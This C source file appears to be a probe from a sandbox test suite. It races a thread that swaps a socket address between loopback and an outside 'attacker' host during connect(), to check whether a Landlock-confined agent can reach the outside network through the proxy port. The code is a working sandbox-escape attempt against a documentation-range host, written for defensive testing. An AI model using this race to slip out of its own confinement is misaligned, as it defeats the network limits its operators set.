// line: thread races sockaddr bytes during connect
// control: reached
// inside: never reached
// seen: tcp 198.51.100.66:3128
#include "probe.h"
#include <arpa/inet.h>
#include <pthread.h>
#include <sys/socket.h>

/* One thread exchanges the address under connect's hands, between loopback and the attacker, on the gateway's port, which
   Landlock allows; the other counts how often it ends up outside. */
static struct sockaddr_in to;
static in_addr_t inside, outside;
static volatile int done;

static void *flip(void *nothing) {
    volatile in_addr_t *address = &to.sin_addr.s_addr;
    while (!done) {
        *address = outside;
        *address = inside;
    }
    return nothing;
}

int main(void) {
    inside = inet_addr("127.0.0.1");
    outside = inet_addr("198.51.100.66");
    char *port = strrchr(getenv("HTTPS_PROXY"), ':');
    to = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(atoi(port + 1)), .sin_addr.s_addr = inside};
    pthread_t thread;
    step(-pthread_create(&thread, NULL, flip, NULL));
    int reached = 0;
    for (int i = 0; i < 2000; i++) {
        struct sockaddr_in peer = {0};
        socklen_t size = sizeof peer;
        int made = step(socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0));
        /* Closed at once, so that no port of the agent's range stays taken. */
        struct linger linger = {.l_onoff = 1};
        setsockopt(made, SOL_SOCKET, SO_LINGER, &linger, sizeof linger);
        connect(made, (struct sockaddr *)&to, sizeof to);
        usleep(50);
        reached += !getpeername(made, (struct sockaddr *)&peer, &size) && peer.sin_addr.s_addr == outside;
        close(made);
    }
    done = 1;
    pthread_join(thread, NULL);
    printf("%d of 2000\n", reached);
    printf("result: %s\n", reached ? "reached" : "never reached");
}
